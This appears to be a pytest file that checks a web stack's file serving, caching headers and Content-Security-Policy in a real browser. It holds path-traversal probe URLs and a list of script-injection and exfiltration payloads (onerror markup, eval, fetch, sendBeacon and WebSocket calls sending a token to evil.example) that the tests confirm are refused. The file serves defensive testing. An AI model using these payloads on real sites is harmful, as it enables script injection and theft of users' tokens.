"""What the stack serves at the web client's addresses, and what the pages' policy refuses in a real browser."""

import gzip
import re
from pathlib import Path

import httpx
import pytest

from tests.waiting import PATIENCE_SECONDS
from tests.web.browser import Watch, wait_for
from tests.web.conftest import OpenPage
from tests.web.stack import ROOT, Stack

SITE = ROOT / "functions" / "web" / "site"
TYPES = {
    ".js": "text/javascript; charset=utf-8",
    ".css": "text/css; charset=utf-8",
    ".json": "application/json",
    ".svg": "image/svg+xml",
    ".txt": "text/plain; charset=utf-8",
}
PAGES = ("/", "/admin", "/s/abc")
FILES = sorted(path.relative_to(SITE) for path in SITE.rglob("*") if path.suffix in TYPES)


@pytest.fixture
def http(stack: Stack) -> httpx.Client:
    """A client that takes what it is sent, without decoding."""
    with httpx.Client(base_url=stack.url, timeout=PATIENCE_SECONDS, trust_env=False) as client:
        yield client


@pytest.mark.parametrize("file", FILES, ids=str)
def test_each_file_is_served_as_it_is_with_its_type(http: httpx.Client, file: Path) -> None:
    answer = http.get(f"/web/{file.as_posix()}", headers={"Accept-Encoding": "gzip"})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == TYPES[file.suffix]
    assert answer.headers["content-encoding"] == "gzip"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.content == (SITE / file).read_bytes()


@pytest.mark.parametrize("path", PAGES)
def test_a_page_has_its_policy_and_every_file_that_it_names(http: httpx.Client, path: str) -> None:
    page = http.get(path)
    assert page.headers["content-type"] == "text/html; charset=utf-8"
    assert page.headers["cache-control"] == "public, no-cache"
    assert page.headers["referrer-policy"] == "no-referrer"
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'; script-src 'self'; style-src 'self'" in policy
    assert "unsafe" not in policy
    named = re.findall(r' (?:href|src)="([^"]+)"', page.text)
    assert len(named) > 5
    for address in named:
        answer = http.get(address)
        assert (answer.status_code, answer.headers["cache-control"]) == (200, "public, max-age=31536000, immutable")


@pytest.mark.parametrize("path", PAGES)
def test_a_page_has_no_script_and_no_style_of_its_own(http: httpx.Client, path: str) -> None:
    text = http.get(path).text
    assert re.findall(r"<script[^>]*>[^<]", text) == []
    assert re.findall(r"<style|\sstyle=|\son\w+=", text) == []


def test_a_tag_saves_the_second_transfer(http: httpx.Client) -> None:
    first = http.get("/web/shared/ui.js")
    again = http.get("/web/shared/ui.js", headers={"If-None-Match": first.headers["etag"]})
    assert (again.status_code, again.content) == (304, b"")


@pytest.mark.parametrize(
    "path",
    [
        "/web/../file.py",
        "/web/..%2f..%2ftemplate.yaml",
        "/web/%2e%2e/file.py",
        "/web/vendor",
        "/web/index.html",
        "/web/x.js",
    ],
)
def test_nothing_else_is_served(stack: Stack, path: str) -> None:
    with httpx.Client(timeout=PATIENCE_SECONDS, trust_env=False) as client:
        request = client.build_request("GET", stack.url)
        request.url = request.url.copy_with(raw_path=path.encode())
        answer = client.send(request)
    assert answer.status_code == 404
    assert answer.headers["content-type"] == "application/json"


def test_the_compressed_form_is_smaller_and_the_same(stack: Stack) -> None:
    with httpx.stream(
        "GET",
        f"{stack.url}/web/vendor/marked.js",
        headers={"Accept-Encoding": "gzip"},
        trust_env=False,
        timeout=PATIENCE_SECONDS,
    ) as answer:
        packed = b"".join(answer.iter_raw())
    assert gzip.decompress(packed) == (SITE / "vendor" / "marked.js").read_bytes()
    assert len(packed) < len(gzip.decompress(packed)) / 3


EVIL = "https://evil.example/"
ADD = "const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more)); "
REFUSED = {
    "a string as markup": "document.body.innerHTML = '<img src=x onerror=stolen=1>'",
    "a script of text": "add('script', { textContent: 'stolen=1' })",
    "a script of another host": f"add('script', {{ src: '{EVIL}' }})",
    "eval": "setTimeout(() => eval('stolen=1'))",
    "a timer of text": "setTimeout('stolen=1')",
    "a handler in an attribute": "document.body.setAttribute('onclick', 'stolen=1'); document.body.click()",
    "a frame": f"add('iframe', {{ src: '{EVIL}' }})",
    "a picture of another host": f"add('img', {{ src: '{EVIL}?seen' }})",
    "a call of another host": f"fetch('{EVIL}', {{ method: 'POST', body: 'token' }}).catch(() => {{}})",
    "a beacon": f"navigator.sendBeacon('{EVIL}', 'token')",
    "a socket": "new WebSocket('wss://evil.example/')",
    "an object": f"add('object', {{ data: '{EVIL}' }})",
    "a style of text": "add('style', { textContent: 'body { display: none }' })",
    "another base": f"add('base', {{ href: '{EVIL}' }})",
    "a worker of text": "new Worker(URL.createObjectURL(new Blob(['stolen=1'])))",
}
"""What an attacker's script would try, if there were a way to run it. `page.evaluate` is such a way, for a test."""


@pytest.mark.parametrize("what", REFUSED)
@pytest.mark.parametrize("path", ["/", "/admin"])
def test_the_browser_refuses(open_page: OpenPage, watch: Watch, stack: Stack, path: str, what: str) -> None:
    page = open_page(path)
    page.evaluate(f"() => {{ {ADD} try {{ {REFUSED[what]} }} catch {{ }} }}")
    wait_for(page, "globalThis.__violations?.length > 0", what)
    assert page.evaluate("globalThis.stolen") is None
    assert [one for one in watch.reached if not one.startswith(stack.url)] == [], "nothing left this machine"
    watch.errors.clear()  # they are the refusals
